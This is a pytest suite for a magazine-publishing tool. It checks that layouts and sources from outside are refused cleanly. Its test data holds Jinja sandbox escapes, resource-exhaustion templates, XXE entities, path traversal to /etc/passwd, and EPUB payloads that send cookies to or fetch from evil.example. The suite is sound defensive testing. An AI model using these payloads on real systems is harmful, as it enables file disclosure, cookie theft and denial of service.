"""Issue folders from outside: every hostile input is one clear line and exit 1, with no
traceback, nothing written and earlier outputs intact; layouts run no code and read no file
outside their folders."""

from __future__ import annotations

import errno
import json
import os
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from publisher.cli import main
from tests.conftest import ROOT, ROOTS

PREVIOUS = b"%PDF- the proof the printer already has"
SHIPPED = ROOT / "layouts"


@pytest.fixture
def workdir(tmp_path, monkeypatch) -> Path:
    """A scratch folder as the current one, with `out/` holding an earlier build's PDF."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "2015-10.pdf").write_bytes(PREVIOUS)
    return tmp_path


def hostile(workdir: Path, name: str, base: str | None = None) -> Path:
    """tests/roots/<name> (or <base>, for a case made in the test) copied into the workdir."""
    return Path(shutil.copytree(ROOTS / (base or name), workdir / name, symlinks=True))


def refused(capsys, *argv: str) -> list[str]:
    """Run the command; assert it failed cleanly and wrote nothing; return its error lines."""
    command = [*argv, "-o", "out"] if argv[0] == "build" else list(argv)
    assert main(command) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert sorted(os.listdir("out")) == ["2015-10.pdf"]
    assert Path("out/2015-10.pdf").read_bytes() == PREVIOUS
    return err.splitlines()


# ------------------------------------------------------------------- layouts

LAYOUT_CODE = "layout-runs-code/layouts/partials/inside-front-cover.html.j2"


def test_a_layout_cannot_run_a_command(workdir, capsys):
    hostile(workdir, "layout-runs-code")
    assert refused(capsys, "validate", "layout-runs-code") == [
        f"{LAYOUT_CODE}:2: layout template: `__init__`, `__globals__`: a layout may not reach "
        "Python's internals",
        "publisher: 1 problem(s) found",
    ]
    # The build checks the same before it renders anything; the sandbox would refuse it too.
    assert refused(capsys, "build", "layout-runs-code")[0].startswith(f"{LAYOUT_CODE}:2: ")
    assert not (workdir / "pwned").exists()


def test_the_sandbox_refuses_python_internals_at_render_time():
    from jinja2.sandbox import SecurityError

    from publisher.errors import BuildError
    from publisher.templates import environment, render

    env = environment((ROOTS / "layout-runs-code" / "layouts",))
    with pytest.raises(BuildError) as caught:
        render(env, "partials/inside-front-cover.html.j2", issue=None)
    assert caught.value.message == ("layout template: access to attribute '__init__' of 'type' "
                                    "object is unsafe.")
    assert (caught.value.path.name, caught.value.line) == ("inside-front-cover.html.j2", 2)
    for attempt in ("''.__class__.__mro__", "lipsum.__globals__", "x.update({1: 2})"):
        with pytest.raises(SecurityError):
            env.from_string("{{ " + attempt + " }}").render(x={})


@pytest.mark.parametrize("expression", ['"x" * (2 ** 20 + 1)', '[0] * 10 ** 10',
                                        "9 ** (9 ** 9)", "2 ** 70000"])
def test_the_sandbox_refuses_a_value_too_large_to_make(expression):
    """One expression took the machine's memory (`"x" * 10**10`) or minutes (`9 ** (9 ** 9)`)."""
    from jinja2.sandbox import SecurityError

    from publisher.templates import environment

    env = environment(())
    with pytest.raises(SecurityError, match="would make a value too large for a layout"):
        env.from_string("{{ " + expression + " }}").render()
    assert env.from_string('{{ "—" * 2 }}{{ [0] * 2 }}{{ 2 ** 10 }}{{ 1 ** 10 ** 9 }}').render() \
        == "——[0, 0]10241"


def test_a_layout_making_a_value_too_large_is_its_line(workdir, capsys):
    layout = overridden(workdir, "layout-bomb", "partials/inside-front-cover.html.j2", 1,
                        '<p>{{ "x" * 10 ** 10 }}</p>')
    assert refused(capsys, "build", "layout-bomb", "--pdf") == [
        f"{layout.relative_to(workdir)}:1: layout template: `*` would make a value too large "
        "for a layout to hold"]


# One string of a million characters, and a list that holds it eighteen times: printed, or joined,
# eighteen million characters.
MILLION = "{% set s = 'y' * 2 ** 20 %}"
EIGHTEEN = "[" + ", ".join(["s"] * 18) + "]"
DOUBLED = "{% set s = namespace(v='x') %}{% for i in range(60) %}{% set s.v = JOINED %}{% endfor %}"


@pytest.mark.parametrize(("template", "made_by"), [
    ("{{ 'x' | center(10 ** 8) }}", "|center"),
    ("{{ ('\\n' * 1000) | indent(10 ** 5) }}", "|indent"),
    ("{{ '%0100000000d' | format(1) }}", "|format"),
    ("{{ ('x ' * 2 ** 19) | wordwrap(1, wrapstring='y' * 2 ** 10) }}", "|wordwrap"),
    ("{{ [1] | batch(10 ** 9, 0) | list }}", "|batch"),
    (MILLION + "{{ " + EIGHTEEN + " | join }}", "|join"),
    (MILLION + "{{ " + EIGHTEEN + " | string }}", "|string"),
    ("{{ '%*d' % (10 ** 9, 1) }}", "%"),
    ("{{ '{:>{w}}'.format('x', w=10 ** 9) }}", ".format()"),
    ("{{ 'x'.ljust(10 ** 9) }}", ".ljust()"),
    ("{{ ('x' * 2 ** 20).replace('', 'y' * 2 ** 10) }}", ".replace()"),
    ("{{ (1).to_bytes(10 ** 10, 'big') }}", ".to_bytes()"),
    ("{{ lipsum(10 ** 6) }}", "lipsum()"),
    (DOUBLED.replace("JOINED", "s.v ~ s.v"), "~"),
    (DOUBLED.replace("JOINED", "s.v + s.v"), "+"),
    (MILLION + "{{ " + EIGHTEEN + " }}", "{{ }}"),
    (MILLION + "{{ [s] * 2 ** 10 }}", "*"),
    ("{% set n = namespace(v=2 ** 30000) %}{% for i in range(40) %}{% set n.v = n.v * n.v %}"
     "{% endfor %}", "*"),
])
def test_the_sandbox_refuses_a_filter_method_or_join_that_makes_a_value_too_large(template,
                                                                                  made_by):
    """Beyond `*` and `**`: a width, a count or a string doubled in a loop took the machine."""
    from jinja2.sandbox import SecurityError

    from publisher.templates import environment

    with pytest.raises(SecurityError) as caught:
        environment(()).from_string(template).render()
    assert str(caught.value) == f"`{made_by}` would make a value too large for a layout to hold"


def test_the_budget_leaves_what_layouts_do_as_jinja_does_it():
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    from publisher.templates import environment

    template = ("{{ 'x' | center(5) }}|{{ 'a\\nb' | indent(2) }}|{{ '%03d' | format(7) }}|"
                "{{ '%s·%s' % (10, 3) }}|{{ '{:>3}'.format(1) }}|{{ 'a b' | wordwrap(1) }}|"
                "{{ ['a', 'b'] | join('、') }}|{{ 'ab'.replace('a', 'c') }}|{{ 'a' ~ 1 }}|"
                "{{ [1] + [2] }}|{{ [1, 2, 3] | batch(2, 0) | list }}|"
                "{{ [[1], [2]] | sum(start=[]) }}|"
                "{{ 'x'.ljust(3) }}|{{ 'x' * 3 }}|{% for i in range(3) %}{{ i }}{% endfor %}|"
                "{% set t %}{{ 'y' * 3 }}{% endset %}{{ t }}|{{ 7 * 6 }}")
    ours = environment(()).from_string(template).render()
    assert ours == ImmutableSandboxedEnvironment().from_string(template).render()
    assert ours.startswith("  x  |a\n  b|007|10·3|  1|a\nb|a、b|cb|a1|[1, 2]|")


@pytest.mark.parametrize("runs_on", [
    "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(60) }}",
    '{% set depth = depth + 1 %}{% if depth < 60 %}{% include "page.html.j2" %}'
    '{% include "page.html.j2" %}{% endif %}',
])
def test_a_layout_that_runs_too_long_is_stopped_at_its_line(workdir, monkeypatch, runs_on):
    """Nested loops, or a macro or an include that calls itself twice, run for days."""
    from publisher import templates
    from publisher.errors import BuildError

    monkeypatch.setattr(templates, "MAX_RENDER_SECONDS", 0.5)
    folder = workdir / "layouts"
    folder.mkdir()
    (folder / "page.html.j2").write_text(f"<p>\n{runs_on}\n", encoding="utf-8")
    with pytest.raises(BuildError) as caught:
        templates.render(templates.environment((folder,)), "page.html.j2", depth=0)
    assert str(caught.value) == (f"{folder / 'page.html.j2'}:2: layout template: the layout ran "
                                 "for over 0.5 s of CPU time: a loop or a recursion longer than "
                                 "any issue needs")


def test_a_layout_that_writes_too_much_is_stopped_at_the_line_that_writes_it(workdir):
    from publisher.errors import BuildError
    from publisher.templates import MAX_RENDERED, environment, render

    folder = workdir / "layouts"
    folder.mkdir()
    (folder / "page.html.j2").write_text(
        f"<p>\n{MILLION}\n{{% for i in range(100) %}}\n{{{{ s }}}}\n{{% endfor %}}\n",
        encoding="utf-8")
    with pytest.raises(BuildError) as caught:
        render(environment((folder,)), "page.html.j2")
    assert str(caught.value) == (f"{folder / 'page.html.j2'}:4: layout template: the layout's "
                                 f"text runs past {MAX_RENDERED:,} characters: more than any "
                                 "issue needs")


@pytest.mark.parametrize(("layout", "line", "output"), [
    ("partials/inside-front-cover.html.j2", 1, "--pdf"),
    ("furniture.html.j2", 6, "--pdf"),
    ("epub/item.xhtml.j2", 8, "--epub"),
])
def test_a_layout_over_its_budget_stops_the_build_at_its_line(workdir, capsys, layout, line,
                                                              output):
    copy = overridden(workdir, "layout-budget", layout, line, "<p>{{ 'x' | center(10 ** 8) }}</p>")
    assert refused(capsys, "build", "layout-budget", output) == [
        f"{copy.relative_to(workdir)}:{line}: layout template: `|center` would make a value too "
        "large for a layout to hold"]


def test_a_layout_that_runs_too_long_stops_the_build_at_its_line(workdir, capsys):
    from publisher.templates import MAX_RENDER_SECONDS

    copy = overridden(workdir, "layout-loops", "partials/inside-front-cover.html.j2", 1,
                      "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}"
                      "{% endfor %}")
    assert refused(capsys, "build", "layout-loops", "--pdf") == [
        f"{copy.relative_to(workdir)}:1: layout template: the layout ran for over "
        f"{MAX_RENDER_SECONDS:g} s of CPU time: a loop or a recursion longer than any issue needs"]


def test_a_layout_cannot_call_the_methods_of_the_sources_records(workdir, capsys):
    hostile(workdir, "layout-unpickles")
    found = ("layout-unpickles/layouts/partials/inside-front-cover.html.j2:2: layout template: "
             "`parse_raw`: a layout may not reach Python's internals")
    assert refused(capsys, "validate", "layout-unpickles") == [
        found, "publisher: 1 problem(s) found"]
    assert refused(capsys, "build", "layout-unpickles")[0] == found
    assert not (workdir / "pwned").exists()


@pytest.mark.parametrize(("record", "method"), [
    ("issue.articles | first", "parse_raw"), ("issue", "parse_file"),
    ("issue.articles | first", "model_validate_json"), ("issue.trim", "copy"),
    ("issue", "by_column")])
def test_the_sandbox_refuses_a_records_methods_at_render_time(workdir, record, method):
    """Pydantic's methods parse pickles and files; a template only reads fields and
    properties."""
    from jinja2.sandbox import SecurityError

    from publisher.source.load import load_issue
    from publisher.templates import environment

    issue = load_issue(ROOTS / "good-minimal")
    env = environment(())
    with pytest.raises(SecurityError):
        env.from_string(f"{{{{ ({record}) | attr(name) }}}}").render(issue=issue, name=method)
    assert env.from_string("{{ (issue.articles | first).anchor }} {{ issue.uuid }}").render(
        issue=issue) == f"{issue.articles[0].anchor} {issue.uuid}"


def test_a_layout_cannot_read_a_file_through_a_path(workdir, capsys):
    hostile(workdir, "layout-reads-file")
    (workdir / "secret.txt").write_text("the build machine's secret", encoding="utf-8")
    assert refused(capsys, "build", "layout-reads-file") == [
        "layout-reads-file/layouts/partials/inside-front-cover.html.j2:2: layout template: "
        "access to attribute 'with_name' of 'PosixPath' object is unsafe.",
    ]


@pytest.mark.parametrize("special", ["link out", "fifo", "not utf-8"])
def test_a_layout_file_must_be_a_regular_utf8_file_inside_its_folder(workdir, capsys, special):
    root = hostile(workdir, "layout-link-out", base="good-minimal")
    partial = root / "layouts" / "partials" / "inside-front-cover.html.j2"
    partial.parent.mkdir(parents=True)
    (workdir / "secret.txt").write_text("the build machine's secret", encoding="utf-8")
    if special == "link out":
        partial.symlink_to(workdir / "secret.txt")
        reason = f"a link to {workdir / 'secret.txt'} outside layout-link-out/layouts"
        found = f"{partial.relative_to(workdir)}: layout file: {reason}"
    elif special == "fifo":
        os.mkfifo(partial)
        reason = "not a regular file"
        found = f"{partial.relative_to(workdir)}: layout file: {reason}"
    else:
        partial.write_bytes(b"<p>\n\xff</p>\n")
        reason = "not UTF-8: byte 0xff cannot be read; save the file as UTF-8"
        found = f"{partial.relative_to(workdir)}:2: {reason}"
    assert refused(capsys, "validate", "layout-link-out") == [
        found, "publisher: 1 problem(s) found"]


@pytest.mark.parametrize("special", ["link out", "fifo", "hidden"])
def test_the_build_refuses_a_layout_that_is_no_regular_file_inside(workdir, special):
    from publisher.errors import BuildError
    from publisher.templates import environment, render

    folder = workdir / "layouts"
    folder.mkdir()
    (workdir / "secret.txt").write_text("the build machine's secret", encoding="utf-8")
    name = ".a.html.j2" if special == "hidden" else "a.html.j2"
    if special == "link out":
        (folder / name).symlink_to(workdir / "secret.txt")
        reason = f"a link to {workdir / 'secret.txt'} outside {folder}"
    elif special == "fifo":
        os.mkfifo(folder / name)
        reason = "not a regular file"
    else:  # the build cache does not hash hidden files: an edit to it went unseen
        (folder / name).write_text("<p>一</p>", encoding="utf-8")
        reason = "hidden (a name starting with a dot): not a layout"
    (folder / "page.html.j2").write_text(f'<p>\n{{% include "{name}" %}}\n', encoding="utf-8")
    with pytest.raises(BuildError) as caught:
        render(environment((folder,)), "page.html.j2")
    assert str(caught.value) == (f"{folder / 'page.html.j2'}:2: layout template: `{name}` is "
                                 f"{folder / name}, {reason}")


@pytest.mark.parametrize(("line", "message"), [
    ("{{ 1 / 0 }}", "layout template: ZeroDivisionError: division by zero"),
    ("{{ run.get(1, 2, 3) }}", "layout template: TypeError: get expected at most 2 arguments, "
                               "got 3"),
    ('{% include "/etc/passwd" %}', "layout template `/etc/passwd` not found in: {folder}"),
    ('{% extends "../../base.html.j2" %}', "layout template `../../base.html.j2` not found in: "
                                           "{folder}"),
])
def test_a_templates_own_error_is_its_file_and_line(workdir, line, message):
    from publisher.errors import BuildError
    from publisher.templates import environment, render

    folder = workdir / "layouts"
    folder.mkdir()
    (folder / "page.html.j2").write_text(f"<p>\n{line}\n", encoding="utf-8")
    with pytest.raises(BuildError) as caught:
        render(environment((folder,)), "page.html.j2", run={})
    assert str(caught.value) == f"{folder / 'page.html.j2'}:2: {message.format(folder=folder)}"


def test_an_error_in_the_code_a_project_template_calls_keeps_its_traceback(workdir,
                                                                           monkeypatch):
    """The tool's bug (an issue's own template that calls it badly is its line, below)."""
    from publisher import templates
    from publisher.templates import environment, render

    monkeypatch.setattr(templates, "shipped", lambda name: workdir)

    def broken():
        raise ValueError("a bug of the tool's")

    (workdir / "page.html.j2").write_text("<p>\n{{ broken() }}\n", encoding="utf-8")
    with pytest.raises(ValueError, match="a bug of the tool's"):
        render(environment((workdir,)), "page.html.j2", broken=broken)


def overridden(workdir: Path, name: str, layout: str, line: int, written: str, *,
               replacing: bool = False) -> Path:
    """good-minimal as `name`, with its own copy of the project's `layout` that has `written`
    as line `line` (in place of the project's line, with `replacing`); the copy's path."""
    root = hostile(workdir, name, base="good-minimal")
    lines = (SHIPPED / layout).read_text(encoding="utf-8").split("\n")
    copy = root / "layouts" / layout
    copy.parent.mkdir(parents=True)
    after = lines[line:] if replacing else lines[line - 1:]
    copy.write_text("\n".join([*lines[:line - 1], written, *after]), encoding="utf-8")
    return copy


@pytest.mark.parametrize(("template", "written", "reference"), [
    ("epub.css.j2", "@import url(http://127.0.0.1:1/track.css);", "http://127.0.0.1:1/track.css"),
    ("epub.css.j2", "body { background: url(file:///etc/hostname) }", "file:///etc/hostname"),
    ("item.xhtml.j2", '<img src="file:///etc/hostname" alt=""/>', "file:///etc/hostname"),
    ("item.xhtml.j2", '<p style="background: url(//example.org/a.png)">x</p>',
     "//example.org/a.png"),
    ("item.xhtml.j2", '<iframe src="https://example.org/"></iframe>', "<iframe>"),
    ("item.xhtml.j2", '<a href="file:///etc/passwd">看这里</a>', "file:///etc/passwd"),
    ("item.xhtml.j2", '<style><!-- x -->@import url("file:///etc/passwd");</style>',
     "file:///etc/passwd"),
    ("item.xhtml.j2", '<?xml-stylesheet href="file:///etc/passwd" type="text/css"?>',
     "<?xml-stylesheet?>"),
    ("item.xhtml.j2", '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" '
                      'to="file:///etc/passwd"/></a></svg>', "<set>"),
    # An event handler is a script, whatever it is on and however it is spelt.
    ("item.xhtml.j2", '<img src="data:image/png;base64,iVBORw0KGgo=" alt="" '
                      'onerror="window.location=\'https://evil.example/?\'+document.cookie"/>',
     "onerror"),
    ("item.xhtml.j2", '<svg xmlns="http://www.w3.org/2000/svg" '
                      'onload="fetch(\'https://evil.example/\')"><rect/></svg>',
     "onload"),
    ("base.xhtml.j2", '<meta name="viewport" content="width=device-width" OnFocus="alert(1)"/>',
     "OnFocus"),
    # A relative name is the book's only if, from where it is written, it names a file the book
    # carries: images/cover.png is, but not from css/, and nothing is above the package.
    ("item.xhtml.j2", '<img src="../../../../../../../../etc/passwd" alt=""/>',
     "../../../../../../../../etc/passwd"),
    ("base.xhtml.j2", '<link rel="stylesheet" type="text/css" '
                      'href="../../../../../../../home/user/.config/x.css"/>',
     "../../../../../../../home/user/.config/x.css"),
    ("epub.css.j2", "body { background: url(../../images/cover.png) }", "../../images/cover.png"),
    ("item.xhtml.j2", '<a href="images/nowhere.png">看这里</a>', "images/nowhere.png"),
    # Attributes that refer elsewhere without being named `src` or `href`: a base the book's
    # own names are resolved against, a preload's pictures, an SVG presentation attribute.
    ("item.xhtml.j2", '<div xml:base="https://evil.example/"><img src="images/cover.png" '
                      'alt=""/></div>', "https://evil.example/"),
    ("base.xhtml.j2", '<link rel="preload" as="image" href="images/cover.png" '
                      'imagesrcset="https://evil.example/a.png 1x"/>', "https://evil.example/a.png"),
    ("item.xhtml.j2", '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9" '
                      'filter="url(https://evil.example/f.svg#f)"/></svg>',
     "https://evil.example/f.svg#f"),
])
def test_an_epub_layout_refers_only_to_the_books_own_files(workdir, capsys, template, written,
                                                          reference):
    at = 2 if template.endswith(".css.j2") else 8  # after @charset; inside <article>
    layout = overridden(workdir, "epub-refers-out", f"epub/{template}", at, written)
    assert refused(capsys, "build", "epub-refers-out", "--epub") == [
        f"{layout.relative_to(workdir)}:{at}: layout template: `{reference}`: an EPUB refers "
        "only to its own files, and links only to the web (http://, https:// or mailto:)"]


@pytest.mark.parametrize(("doctype", "at", "refused_as"), [
    ('<!DOCTYPE html [<!ENTITY xx SYSTEM "file:///tmp/secret.txt">]>', 2, "<!ENTITY>"),
    ('<!DOCTYPE html [\n<!ATTLIST img onerror CDATA "fetch(\'https://evil.example/\')">\n]>', 3,
     "<!ATTLIST>"),
    ('<!DOCTYPE html SYSTEM "file:///etc/passwd">', 2, "file:///etc/passwd"),
])
def test_an_epub_layouts_doctype_declares_nothing(workdir, capsys, doctype, at, refused_as):
    """A reader's parser may read an entity's file into the text, give each `<img>` the handler
    an `<!ATTLIST>` defaults, or fetch the DTD: the document is `<!DOCTYPE html>` and no more."""
    layout = overridden(workdir, "epub-declares", "epub/base.xhtml.j2", 2, doctype,
                        replacing=True)
    assert refused(capsys, "build", "epub-declares", "--epub") == [
        f"{layout.relative_to(workdir)}:{at}: layout template: `{refused_as}`: an EPUB refers "
        "only to its own files, and links only to the web (http://, https:// or mailto:)"]


def test_an_epub_layout_that_prints_a_page_marker_twice_is_one_line(workdir, capsys):
    """An issue's own item template, say one written before the chapter printed the markers of
    an item opening its column: a page list pointing at a marker twice is no EPUB."""
    layout = overridden(workdir, "epub-marks-twice", "epub/item.xhtml.j2", 10,
                        "{% for page in entry.opening %}{{ marker(page) }}{% endfor %}")
    (line,) = refused(capsys, "build", "epub-marks-twice", "--epub")
    assert line.startswith(f"{layout.relative_to(workdir)}:9: layout template: ")
    assert "holds the marker of printed page" in line and "2 time(s), not once" in line


def test_an_epub_layout_that_prints_no_page_marker_is_named(workdir, capsys):
    """An issue's own chapter template that prints no markers was blamed on the project's."""
    layout = overridden(workdir, "epub-no-marks", "epub/chapter.xhtml.j2", 9, "",
                        replacing=True)
    (line,) = refused(capsys, "build", "epub-no-marks", "--epub")
    assert line.startswith(f"{layout.relative_to(workdir)}: layout template: ")
    assert "holds the marker of printed page" in line and "0 time(s), not once" in line


def test_an_epub_layout_may_name_a_namespace_hold_data_and_use_the_books_files(workdir,
                                                                              capsys):
    """A namespace's URL is never fetched, a `data:` URL holds what it shows, and the cover is
    a file of the book, named from the stylesheet's folder."""
    overridden(workdir, "epub-own-data", "epub/epub.css.j2", 2,
               "@namespace epub url(http://www.idpf.org/2007/ops);\n"
               'p { background: url("data:image/png;base64,iVBORw0KGgo=") }\n'
               ".cover { background: url(../images/cover.png) }")
    assert main(["build", "epub-own-data", "--epub", "-o", "out"]) == 0
    assert "Traceback" not in capsys.readouterr().err


def test_an_epub_stylesheets_invalid_selector_is_ignored_as_readers_ignore_it(workdir, capsys):
    """`--embed-fonts` reads which text each role's font sets from the rules of epub.css.j2:
    a rule whose selector cssselect2 cannot compile ended the build in its traceback."""
    overridden(workdir, "epub-bad-selector", "epub/epub.css.j2", 2,
               "p:nth-child(foo) { font-family: {{ fonts.kai | safe }}, serif; }")
    assert main(["build", "epub-bad-selector", "--epub", "--embed-fonts", "-o", "out"]) == 0
    assert "Traceback" not in capsys.readouterr().err


@pytest.mark.parametrize(("written", "problem"), [
    ("<p>一段", "Opening and ending tag mismatch: p line 11 and body"),
    ("<p>A & B</p>", "xmlParseEntityRef: no name"),
])
def test_an_epub_layout_that_makes_no_well_formed_xhtml_is_one_line(workdir, capsys, written,
                                                                    problem):
    """lxml's traceback, before; at the line where the document's text tells it (an `&`), else
    at the issue's own template (a `<p>` left open, which the document's end reveals)."""
    layout = overridden(workdir, "epub-not-xml", "epub/item.xhtml.j2", 8, written)
    at = ":8" if "&" in written else ""
    assert refused(capsys, "build", "epub-not-xml", "--epub") == [
        f"{layout.relative_to(workdir)}{at}: layout template: the XHTML it makes is not "
        f"well-formed ({problem}): close every element, and write & as &amp;"]


def test_a_filter_given_what_it_cannot_take_by_an_issues_layout_is_its_line(workdir, capsys):
    layout = overridden(workdir, "epub-calls-badly", "epub/base.xhtml.j2", 7, "{{ marker(1) }}")
    assert refused(capsys, "build", "epub-calls-badly", "--epub") == [
        f"{layout.relative_to(workdir)}:7: layout template: AttributeError: 'int' object has no "
        "attribute 'id'"]


def test_a_project_template_given_what_it_cannot_take_by_an_issues_layout_is_its_line(
        workdir, capsys):
    """The issue's template hands the project's byline a name that is no text."""
    layout = overridden(workdir, "byline-called-badly", "partials/inside-front-cover.html.j2", 1,
                        '{% with article = {"byline": [{"name": 5, "position": "x"}]} %}'
                        '{% include "partials/byline.html.j2" %}{% endwith %}')
    assert refused(capsys, "build", "byline-called-badly", "--pdf") == [
        f"{layout.relative_to(workdir)}:1: layout template: TypeError: object of type 'int' has "
        "no len()"]


@pytest.mark.parametrize("target", ["file:///etc/passwd", "javascript:alert(1)"])
def test_a_print_layout_links_only_to_the_web_or_the_issue(workdir, capsys, target):
    layout = overridden(workdir, "print-links-out", "partials/byline.html.j2", 1,
                        f'<p><a href="{target}">看这里</a></p>')
    assert refused(capsys, "build", "print-links-out", "--pdf") == [
        f"{layout.relative_to(workdir)}:1: layout template: a link to `{target}`: a link goes "
        "to a web address (http://, https:// or mailto:) or to an item of the issue"]


@pytest.mark.parametrize("url", ["file:///etc/hostname", "../nowhere.png"])
def test_a_stylesheets_reference_is_refused_at_its_line(workdir, capsys, url):
    """Outside the issue, or a file of it that is not there: one line, the stylesheet's."""
    line = len((SHIPPED / "print.css").read_text(encoding="utf-8").split("\n")) + 1
    css = overridden(workdir, "css-refers-out", "print.css", line,
                     f"p {{ background: url({url}) }}")
    root = css.parents[1]
    if url.startswith("file:"):
        problem = (f"a picture or layout refers to {url}: a build reads only files in the issue "
                   "folder, its layouts and fonts folders, and never the network")
    else:
        problem = f"a layout refers to {(root / 'nowhere.png').as_uri()}: no such file"
    assert refused(capsys, "build", "css-refers-out", "--pdf") == [
        f"{css.relative_to(workdir)}:{line}: {problem}"]


@pytest.mark.parametrize(("special", "reason"), [
    ("fifo", "not a regular file (a pipe, device or folder): not read"),
    ("postscript", "not a PNG picture that can be read: export it as one"),
    ("no picture", "not a picture a build reads (.gif, .jpeg, .jpg, .png, .webp)"),
    ("bomb", "has too many pixels to decode safely: scale it down"),
])
def test_a_layouts_picture_is_a_readable_file_of_its_kind(workdir, capsys, special, reason):
    """A FIFO blocked the build for ever; PostScript named as a PNG was left out of the page
    with only WeasyPrint's warning."""
    name = "photo.tiff" if special == "no picture" else "photo.png"
    layout = overridden(workdir, "layout-picture", "partials/inside-front-cover.html.j2", 1,
                        f'<img src="{name}" style="width: 50mm"/>')
    picture = layout.parents[2] / name
    if special == "fifo":
        os.mkfifo(picture)
    elif special == "bomb":
        shutil.copy(ROOTS / "bad-pictures" / "articles" / "images" / "bomb.png", picture)
    elif special == "postscript":
        picture.write_bytes(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n")
    else:
        shutil.copy(next((ROOTS / "good-minimal" / "articles" / "images").glob("*.png")), picture)
    assert refused(capsys, "build", "layout-picture", "--pdf") == [
        f"{layout.relative_to(workdir)}:1: a layout refers to {picture.as_uri()}: {reason}"]


def test_furniture_that_makes_too_few_pages_is_one_line(workdir, capsys):
    """An issue's own furniture.html.j2 that made fewer pages than it was given ended the
    build in pypdf's IndexError when the pages were composed."""
    root = hostile(workdir, "furniture-short", base="good-minimal")
    (root / "layouts").mkdir()
    (root / "layouts" / "furniture.html.j2").write_text("<p>页眉</p>\n", encoding="utf-8")
    assert refused(capsys, "build", "furniture-short", "--pdf") == [
        f"{(root / 'layouts' / 'furniture.html.j2').resolve()}: layout template: makes 1 "
        "page(s) of running heads and folios for the 5 front and body pages: it makes one for "
        "each of the `pages` it is given"]


def test_a_copyright_page_that_runs_onto_a_page_of_its_own_is_one_line(workdir, capsys):
    """A periodical's 版权页 under a full 目录 printed its last rows alone on the next page,
    moving every later page by one, without a word."""
    root = hostile(workdir, "imprint-overflows", base="press-periodical")
    manifest = root / "issue.yaml"
    manifest.write_text(manifest.read_text(encoding="utf-8").replace(
        "place: inside-back-cover", "place: toc"), encoding="utf-8")
    own = root / "layouts" / "partials" / "imprint.html.j2"
    own.parent.mkdir(parents=True)
    own.write_text('{% for _ in range(5) %}{% include "!partials/imprint.html.j2" %}'
                   '{% endfor %}', encoding="utf-8")
    assert refused(capsys, "build", "imprint-overflows", "--pdf") == [
        "imprint-overflows/issue.yaml:10: `imprint.place: toc`: the 版权页 does not fit under the "
        "目录 and runs onto a page of its own, moving every later page: put it on 封二 or 封三 "
        "(inside-front-cover, inside-back-cover), or shorten the 目录"]


def test_a_back_cover_that_runs_onto_another_page_is_one_line(workdir, capsys):
    """A picture on the 封底 pushed its text onto a page after it: the issue ended on that page,
    labelled with a folio, without a 封底, and not a word was said."""
    root = hostile(workdir, "back-cover-overflows", base="pdf-covers")
    feature = root / "articles" / "20-fengdi.md"
    feature.write_text(feature.read_text(encoding="utf-8") + "\n封底正文再写一段。" * 200,
                       encoding="utf-8")
    assert refused(capsys, "build", "back-cover-overflows", "--pdf") == [
        "back-cover-overflows/articles/20-fengdi.md:5: the 封底 (back cover) does not fit on "
        "its page and runs onto another, so the issue would not end on it: shorten its text or "
        "make its pictures smaller"]


def test_an_issue_folder_cannot_link_its_layouts_elsewhere(workdir, capsys):
    root = hostile(workdir, "layouts-linked", base="good-minimal")
    (workdir / "elsewhere").mkdir()
    (root / "layouts").symlink_to(workdir / "elsewhere")
    assert refused(capsys, "build", "layouts-linked") == [
        f"layouts-linked/layouts: is a link to {workdir / 'elsewhere'}, outside the issue folder",
        "publisher: 1 problem(s) found",
    ]


# ------------------------------------------------------------------- sources

CANNOT_PRINT = "cannot be printed: delete it"
PRIVATE_USE = ("private-use character U+{}: fonts disagree on what it shows; type the standard "
               "character")
RAW_HTML = ("an article is Markdown, which prints HTML as text: use Markdown (**bold**, ## "
            "headings) or delete it")
WEB_ONLY = ("a link goes to a web address (http://, https:// or mailto:) or to an item of the "
            "issue by its file name (020-slug.md)")
# One folder per hostile input under tests/roots/; the exact lines validate and build print.
HOSTILE = {
    "nested-list": [
        "nested-list/articles/10-a.md:12: lists and `>` quotes nested more than 4 deep: the "
        "layout cannot set them; flatten the text",
    ],
    "nested-quote": [  # and the rest of the file is checked still
        "nested-quote/articles/10-a.md:8: lists and `>` quotes nested more than 4 deep: the "
        "layout cannot set them; flatten the text",
        f"nested-quote/articles/10-a.md:12: link `/etc/passwd`: {WEB_ONLY}",
    ],
    "nested-excerpt": [
        "nested-excerpt/articles/10-a.md:9: a `::: excerpt` box inside another: close the first "
        "with `:::` before opening the next",
        "nested-excerpt/articles/10-a.md:12: `:::` would print as text: it opens and closes only "
        "a 微书摘 box, `::: excerpt`",
    ],
    "control-characters": [
        f"control-characters/articles/10-esc.md:6:3: control character U+001B (ESC) {CANNOT_PRINT}",
        f"control-characters/articles/20-fffe.md:8:3: non-character U+FFFE {CANNOT_PRINT}",
        f"control-characters/articles/30-nul.md:6:2: control character U+0000 (NUL) {CANNOT_PRINT}",
        f"control-characters/articles/40-title.md:3:9: control character U+000B (VT) "
        f"{CANNOT_PRINT}",
        f"control-characters/articles/50-c1.md:4:12: control character U+0085 (NEL) "
        f"{CANNOT_PRINT}",
        # Typed as references, they passed the checks: one vanished, one stopped the build with
        # "no glyph for U+FFFD" and no line.
        "control-characters/articles/60-references.md:6: a character reference gives a "
        "private-use character U+E000: fonts disagree on what it shows; type the standard "
        "character",
        "control-characters/articles/60-references.md:9: a character reference (`&#0;`, "
        "`&#x1b;`) names no character a page may carry: delete it",
    ],
    "front-matter-separators": [
        f"front-matter-separators/articles/10-a.md:3:11: line separator U+2028 {CANNOT_PRINT}",
        f"front-matter-separators/articles/20-b.md:3:10: control character U+000C (FF) "
        f"{CANNOT_PRINT}",
        f"front-matter-separators/articles/30-c.md:3:10: control character U+001C (FS) "
        f"{CANNOT_PRINT}",
    ],
    # Escapes in YAML's quoted strings, which the check of the file's text cannot see.
    "yaml-escapes": [
